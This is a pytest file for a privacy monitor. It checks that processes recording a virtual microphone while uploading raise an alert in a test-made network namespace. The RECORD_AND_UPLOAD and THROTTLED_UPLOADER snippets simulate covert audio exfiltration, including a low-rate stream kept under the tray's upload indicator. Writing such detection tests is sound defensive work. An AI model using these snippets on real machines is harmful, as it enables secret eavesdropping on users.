"""Real traffic across a veth pair into a network namespace made by the test (root): a
sender shows up among talkers with an upload rate, loopback traffic does not, and a program
that records the virtual mic while uploading raises the alert until it is acknowledged."""

from __future__ import annotations

import json
import os
import random
import shutil
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest

from tests.support.pulse import wait_for
from trayassist.core.privacy.mic_pulse import PulseMicWatch
from trayassist.core.privacy.monitor import PrivacyMonitor
from trayassist.core.privacy.net import NetWatch, Talker

pytestmark = [pytest.mark.security, pytest.mark.root]

SINK_SERVER = textwrap.dedent("""
    import socket, sys, threading
    srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((sys.argv[1], int(sys.argv[2]))); srv.listen()
    print("ready", flush=True)
    def drain(c):
        while c.recv(65536):
            pass
    while True:
        c, _ = srv.accept()
        threading.Thread(target=drain, args=(c,), daemon=True).start()
""")

SENDER = textwrap.dedent("""
    import socket, sys, time
    s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
    print("ready", flush=True)
    while True:
        s.sendall(b"u" * 16384)
        time.sleep(0.02)  # sleep-ok: paces the traffic generator
""")

LOOPBACK_SENDER = textwrap.dedent("""
    import socket, threading, time
    srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen()
    def drain():
        c, _ = srv.accept()
        while c.recv(65536):
            pass
    threading.Thread(target=drain, daemon=True).start()
    s = socket.create_connection(srv.getsockname())
    print("ready", flush=True)
    while True:
        s.sendall(b"l" * 16384)
        time.sleep(0.02)  # sleep-ok: paces the traffic generator
""")

# One process that records the virtual mic and uploads what it hears: the socket becomes
# stdout, then the process execs parec (same pid, so the sound server and the kernel agree).
RECORD_AND_UPLOAD = textwrap.dedent("""
    import os, socket, sys
    s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
    os.dup2(s.fileno(), 1)
    os.execvp("parec", ["parec", "-d", sys.argv[3]])
""")


@dataclass
class Netns:
    name: str
    host_ip: str  # our side of the veth pair
    peer_ip: str  # inside the namespace

    def run(self, code: str, *args: str) -> subprocess.Popen[str]:
        return spawn(["ip", "netns", "exec", self.name, sys.executable, "-c", code, *args])


def spawn(cmd: list[str]) -> subprocess.Popen[str]:
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    return proc


def ready(proc: subprocess.Popen[str]) -> subprocess.Popen[str]:
    assert proc.stdout is not None
    line = proc.stdout.readline()
    assert line.strip() == "ready", proc.stderr.read() if proc.stderr else line
    return proc


def sh(*cmd: str) -> None:
    subprocess.run(cmd, check=True, capture_output=True, timeout=30)


@pytest.fixture
def netns() -> Iterator[Netns]:
    if os.geteuid() != 0 or not shutil.which("ip"):
        pytest.skip("needs root and iproute2 to make a network namespace")
    tag = f"{os.getpid() % 10000}{random.randrange(100)}"
    name, host_if, peer_if = f"tans{tag}", f"tav{tag}a", f"tav{tag}b"
    octet = random.randrange(1, 255)
    ns = Netns(name, f"10.200.{octet}.1", f"10.200.{octet}.2")
    probe = subprocess.run(["ip", "netns", "add", name], capture_output=True, text=True)
    if probe.returncode != 0:
        pytest.skip(f"`ip netns add` failed: {probe.stderr.strip()}")
    try:
        sh("ip", "link", "add", host_if, "type", "veth", "peer", "name", peer_if)
        sh("ip", "link", "set", peer_if, "netns", name)
        sh("ip", "addr", "add", f"{ns.host_ip}/30", "dev", host_if)
        sh("ip", "link", "set", host_if, "up")
        sh("ip", "netns", "exec", name, "ip", "addr", "add", f"{ns.peer_ip}/30", "dev", peer_if)
        sh("ip", "netns", "exec", name, "ip", "link", "set", peer_if, "up")
        sh("ip", "netns", "exec", name, "ip", "link", "set", "lo", "up")
        yield ns
    finally:
        subprocess.run(["ip", "netns", "del", name], capture_output=True)
        subprocess.run(["ip", "link", "del", host_if], capture_output=True)  # gone with the ns


@pytest.fixture
def procs() -> Iterator[list[subprocess.Popen[str]]]:
    started: list[subprocess.Popen[str]] = []
    yield started
    for p in started:
        p.kill()
        p.wait(timeout=10)
        for stream in (p.stdout, p.stderr):
            if stream:
                stream.close()


def talker(watch: NetWatch, pid: int, found: dict[str, Any]) -> Talker | None:
    sample = watch.sample()
    found["sample"] = sample
    return next((t for t in sample.talkers if t.pid == pid), None)


def test_sender_into_netns_is_a_talker_with_a_rate_loopback_is_not(
        netns: Netns, procs: list[subprocess.Popen[str]]) -> None:
    procs.append(ready(netns.run(SINK_SERVER, netns.peer_ip, "9000")))
    sender = ready(spawn([sys.executable, "-c", SENDER, netns.peer_ip, "9000"]))
    procs.append(sender)
    local = ready(spawn([sys.executable, "-c", LOOPBACK_SENDER]))
    procs.append(local)

    watch = NetWatch()
    found: dict[str, Any] = {}
    try:
        # Samples are taken once a second, as the monitor does.
        def sending() -> bool:
            t = talker(watch, sender.pid, found)
            found["talker"] = t
            return t is not None and (t.up_bps or 0) > 100_000

        assert wait_for(sending, 6, interval=1.0)
        t, sample = found["talker"], found["sample"]
        assert t.remote_connections == 1
        assert t.exe == os.path.realpath(sys.executable)
        assert all(x.pid != local.pid for x in sample.talkers)
        assert sample.up_bps > 100_000  # the veth is a real interface; lo is not counted
    finally:
        watch.close()


@pytest.mark.audio
def test_recording_and_uploading_raises_the_alert_until_acknowledged(
        netns: Netns, procs: list[subprocess.Popen[str]], virtual_mic: str) -> None:
    procs.append(ready(netns.run(SINK_SERVER, netns.peer_ip, "9001")))
    events: list[dict[str, Any]] = []
    monitor = PrivacyMonitor(PulseMicWatch(), NetWatch(), None, on_event=events.append)
    monitor.start()
    try:
        rec = spawn([sys.executable, "-c", RECORD_AND_UPLOAD, netns.peer_ip, "9001", virtual_mic])
        procs.append(rec)

        def alert() -> dict[str, Any] | None:
            return next((a for a in monitor.snapshot()["network"]["alerts"]
                         if a["pid"] == rec.pid), None)

        assert wait_for(lambda: alert() is not None, 6), monitor.snapshot()
        first = alert()
        assert first is not None and first["exe"] and first["can_acknowledge"]
        assert wait_for(lambda: "uploading" in (alert() or {}).get("message", ""), 4)
        assert first["message"].startswith("parec is recording")
        kinds = [e["kind"] for e in events if e.get("pid") == rec.pid]
        assert {"mic_start", "net_start", "alert"} <= set(kinds)
        assert kinds.count("alert") == 1

        monitor.acknowledge(first["exe"])
        assert wait_for(lambda: alert() is None, 3)
        # Keep watching for a few samples: the acknowledged app never alerts again.
        assert not wait_for(lambda: monitor.snapshot()["network"]["alert"] is not None
                            and alert() is not None, 2.5)
        assert [e["kind"] for e in events if e.get("pid") == rec.pid].count("alert") == 1
        assert any(e["kind"] == "acknowledged" for e in events)
        assert any(m["pid"] == rec.pid for m in monitor.snapshot()["mic_others"])
    finally:
        monitor.stop()


# What an exfiltrating one-liner looks like: `parec | <uploader>`, two executables joined
# only by the pipe. The uploader sends ~3 kB/s, like compressed speech (the tray's upload
# arrow only shows above 20 kB/s).
THROTTLED_UPLOADER = textwrap.dedent("""
    import socket, sys, time
    s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
    while True:
        chunk = sys.stdin.buffer.read(4096)
        if not chunk:
            break
        s.sendall(chunk[:300])
        time.sleep(0.1)  # sleep-ok: paces the upload to ~3 kB/s
""")


def _seen(monitor: PrivacyMonitor) -> str:
    """What the monitor saw, whole (pytest cuts a long repr): who is on the mic, who talks."""
    snap, mic = monitor.snapshot(), monitor.mic
    watch = {k: getattr(mic, k, None) for k in ("connected", "last_error", "reconnects")}
    return json.dumps({"mic_watch": watch, "mic_others": snap["mic_others"], "network": snap["network"],
                       "timeline": snap["timeline"]}, indent=1, default=str)


@pytest.mark.audio
def test_a_recorder_piped_into_an_uploader_alerts(
        netns: Netns, procs: list[subprocess.Popen[str]], virtual_mic: str) -> None:
    procs.append(ready(netns.run(SINK_SERVER, netns.peer_ip, "9002")))
    events: list[dict[str, Any]] = []
    monitor = PrivacyMonitor(PulseMicWatch(), NetWatch(), None, on_event=events.append)
    monitor.start()
    pipeline = subprocess.Popen(
        ["sh", "-c", f'parec -d {virtual_mic} | "$0" -c "$1" {netns.peer_ip} 9002',
         sys.executable, THROTTLED_UPLOADER], start_new_session=True, text=True)  # a job, as a shell makes
    try:
        def alert() -> dict[str, Any] | None:
            return next((a for a in monitor.snapshot()["network"]["alerts"]
                         if a["name"] == "parec" and "uploading" in a["message"]), None)

        assert wait_for(lambda: alert() is not None, 8), _seen(monitor)
        a = alert()
        assert a is not None
        [linked] = a["linked"]
        assert linked["exe"] == os.path.realpath(sys.executable) and linked["why"] == "same pipeline"
        assert a["message"] == f"parec is recording and {linked['name']} (same pipeline) is uploading"
        assert a["up_bps"] is not None and 0 < a["up_bps"] < 20_000  # compressed-speech rate
        assert [e["kind"] for e in events].count("alert") == 1
    finally:
        monitor.stop()
        os.killpg(pipeline.pid, 9)
        pipeline.wait(10)
